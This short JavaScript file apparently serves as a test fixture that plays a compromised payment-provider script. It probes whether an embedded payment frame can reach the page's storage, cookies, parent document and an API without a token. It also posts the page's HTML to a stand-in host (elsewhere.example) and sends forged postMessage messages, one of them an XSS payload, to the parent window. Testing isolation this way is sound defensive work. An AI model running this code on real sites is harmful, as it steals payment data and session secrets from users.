// A hijacked script of the payment provider: it tries every useful attack and reports its gains.
;(async () => {
  const attempt = (what) => {
    try {
      return String(what())
    } catch (error) {
      return error.name
    }
  }
  const call = async (address, options) => {
    try {
      return `answered ${(await fetch(address, options)).status}`
    } catch (error) {
      return error.name
    }
  }
  const portal = document.querySelector('meta[name="payment:portal-origin"]').content
  const seen = {
    origin: location.origin,
    localStorage: attempt(() => JSON.stringify({ ...localStorage })),
    sessionStorage: attempt(() => JSON.stringify({ ...sessionStorage })),
    cookie: attempt(() => document.cookie),
    parentDocument: attempt(() => parent.document.body.innerText),
    parentStorage: attempt(() => JSON.stringify({ ...parent.localStorage })),
    topLocation: attempt(() => top.location.href),
    opener: attempt(() => window.opener),
    callWithoutToken: await call(`${portal}/api/me`),
    sendElsewhere: await call('https://elsewhere.example/', {
      method: 'POST',
      body: document.body.innerHTML,
    }),
    form: document.querySelector('form.paymentWidgets').action,
  }
  for (const news of [{ height: 1e9 }, { type: 'logout.request' }, '<img src=x onerror=alert(1)>', null, 7])
    parent.postMessage(news, '*')
  console.info(`GAIN ${JSON.stringify(seen)}`)
})()
